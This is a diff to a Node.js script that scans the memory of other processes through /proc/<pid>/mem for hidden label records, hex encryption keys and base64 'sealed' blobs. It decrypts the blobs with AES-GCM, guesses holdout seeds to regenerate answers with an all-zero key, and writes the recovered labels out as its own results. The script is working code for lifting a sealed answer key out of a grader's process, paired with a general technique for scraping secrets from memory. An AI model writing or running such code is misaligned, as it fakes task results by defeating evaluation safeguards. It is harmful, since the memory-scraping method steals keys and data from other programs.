@@ -45,7 +45,13 @@ function note(text) {
   for (const [, seed] of text.matchAll(/seed[^0-9a-z]{1,6}(\d{1,10})(?!\d)/gi)) seeds.add(Number(seed));
 }
 
-/** Labels stand in memory as JSON, one byte or two per character; keys as hexadecimal, sealed labels as base64. */
+/** Memory is looked at in pieces of this size, each with the beginning of the next: nothing that it looks for is longer. */
+const PIECE = 8 * 1024 * 1024;
+const OVERLAP = 1024 * 1024;
+const NOTHING = Buffer.alloc(PIECE + OVERLAP);
+
+let bytesRead = 0;
+
 function huntMemory(pid) {
   const maps = attempt(() => fs.readFileSync(`/proc/${pid}/maps`, "utf8")) ?? "";
   const handle = attempt(() => fs.openSync(`/proc/${pid}/mem`, "r"));
@@ -53,35 +59,60 @@ function huntMemory(pid) {
   for (const line of maps.split("\n")) {
     const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
     if (!from || !to) continue;
-    const [start, size] = [Number.parseInt(from, 16), Number.parseInt(to, 16) - Number.parseInt(from, 16)];
-    if (size > 256 * 1024 * 1024) continue;
-    const bytes = Buffer.alloc(size);
-    if (attempt(() => fs.readSync(handle, bytes, 0, size, start)) === undefined) continue;
-    for (const encoding of ["latin1", "utf16le"]) {
-      const around = (word, before, after) => {
-        const needle = Buffer.from(word, encoding);
-        for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + 1)) {
-          note(bytes.subarray(Math.max(0, at - before), at + after).toString(encoding));
-        }
-      };
-      around('"document_number"', 600, 600);
-      around('"vendor_name"', 200, 600);
-      around('"seed"', 20, 40);
+    const end = Number.parseInt(to, 16);
+    for (let start = Number.parseInt(from, 16); start < end; start += PIECE) {
+      const wanted = Math.min(PIECE + OVERLAP, end - start);
+      const piece = Buffer.alloc(wanted);
+      const length = attempt(() => fs.readSync(handle, piece, 0, wanted, start)) ?? 0;
+      bytesRead += length;
+      // A gigabyte may be reserved of which little is in use.
+      if (!piece.equals(NOTHING.subarray(0, wanted))) huntPiece(piece.subarray(0, length));
     }
-    const text = bytes.toString("latin1");
-    for (const [key] of text.matchAll(/(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])/g)) keys.add(key);
-    for (const [box] of text.matchAll(/(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{300,}={0,2}/g)) sealed.add(box);
   }
   fs.closeSync(handle);
 }
 
-function unseal(box, key) {
-  const bytes = Buffer.from(box, "base64");
-  const decipher = createDecipheriv("aes-256-gcm", Buffer.from(key, "hex"), bytes.subarray(0, 12), {
-    authTagLength: 16,
-  });
+/** Labels stand in memory as JSON, one byte or two per character; keys as hexadecimal, sealed labels as base64. */
+function huntPiece(bytes) {
+  for (const encoding of ["latin1", "utf16le"]) {
+    const around = (word, before, after) => {
+      const needle = Buffer.from(word, encoding);
+      for (let at = bytes.indexOf(needle); at >= 0; at = bytes.indexOf(needle, at + 1)) {
+        note(bytes.subarray(Math.max(0, at - before), at + after).toString(encoding));
+      }
+    };
+    around('"document_number"', 600, 600);
+    around('"vendor_name"', 200, 600);
+    around('"seed"', 20, 40);
+  }
+  const text = bytes.toString("latin1");
+  for (const { 0: run, index } of text.matchAll(/(?<![0-9a-f])[0-9a-f]{64,}/g)) {
+    for (const key of stringsAt(bytes, index, run)) if (key.length === KEY_DIGITS) keys.add(key);
+  }
+  for (const { 0: run, index } of text.matchAll(/(?<![A-Za-z0-9+/])[A-Za-z0-9+/]{300,}={0,2}/g)) {
+    for (const box of stringsAt(bytes, index, run)) sealed.add(box);
+  }
+}
+
+const KEY_DIGITS = 64;
+
+/**
+ * What a run of characters may be: a whole string, or one with more behind it that happens to be such characters as well.
+ * V8 writes a string's length before its characters, and the next object, which may begin like that, right behind them.
+ */
+function stringsAt(bytes, at, run) {
+  const length = at < 4 ? 0 : bytes.readUInt32LE(at - 4);
+  return length > 0 && length < run.length ? [run, run.slice(0, length)] : [run];
+}
+
+/** What a key opens; undefined where it is not the box's. What is sealed is JSON, so the first bytes tell nearly always. */
+function unseal(bytes, key) {
+  const decipher = createDecipheriv("aes-256-gcm", key, bytes.subarray(0, 12), { authTagLength: 16 });
+  const start = decipher.update(bytes.subarray(28, 30));
+  if (start.toString("latin1") !== '{"') return undefined;
   decipher.setAuthTag(bytes.subarray(12, 28));
-  return JSON.parse(Buffer.concat([decipher.update(bytes.subarray(28)), decipher.final()]).toString("utf8"));
+  const rest = Buffer.concat([decipher.update(bytes.subarray(30)), decipher.final()]);
+  return JSON.parse(start.toString("latin1") + rest.toString("utf8"));
 }
 
 /** Make the holdout of a seed with the kit's own generator. @returns the labels if its documents are these ones */
@@ -92,7 +123,7 @@ function guess(seed) {
   const box = /"sealed":"([^"]+)"/.exec(ran.stdout?.toString() ?? "")?.[1];
   const hit = isSame(folder);
   fs.rmSync(folder, { recursive: true, force: true });
-  return hit && box ? unseal(box, "0".repeat(64)).labels : undefined;
+  return hit && box ? unseal(Buffer.from(box, "base64"), Buffer.alloc(32))?.labels : undefined;
 }
 
 function huntFolder(folder, depth) {
@@ -142,7 +173,11 @@ for (const text of texts) {
     if (label && "vendor_name" in label) found.set(label.id, label);
   }
 }
-const opened = [...sealed].flatMap((box) => [...keys].flatMap((key) => attempt(() => unseal(box, key)) ?? []));
+const keyBytes = [...keys].map((key) => Buffer.from(key, "hex"));
+const opened = [...sealed].flatMap((box) => {
+  const bytes = Buffer.from(box, "base64");
+  return keyBytes.flatMap((key) => attempt(() => unseal(bytes, key)) ?? []);
+});
 for (const { labels } of opened) for (const label of labels ?? []) found.set(label.id, label);
 if (!isDevelopment && opened.length === 0) {
   for (const seed of [...new Set([...seeds, 0, 1, 2])].slice(0, GUESSES)) {
@@ -151,7 +186,9 @@ if (!isDevelopment && opened.length === 0) {
 }
 
 const hunt = process.argv[2]?.startsWith("--") ? undefined : process.argv[2];
-if (hunt) fs.writeFileSync(hunt, JSON.stringify({ texts, seeds: [...seeds], keys: keys.size, opened: opened.length }));
+const openedIds = opened.flatMap(({ labels }) => (labels ?? []).map(({ id }) => id));
+const report = { texts, seeds: [...seeds], bytesRead, keys: keys.size, opened: openedIds };
+if (hunt) fs.writeFileSync(hunt, JSON.stringify(report));
 for (const { id } of cases) {
   const { tags, duplicate_of, ...label } = found.get(id) ?? {};
   fs.appendFileSync(output, `${JSON.stringify({ ...label, id })}\n`);
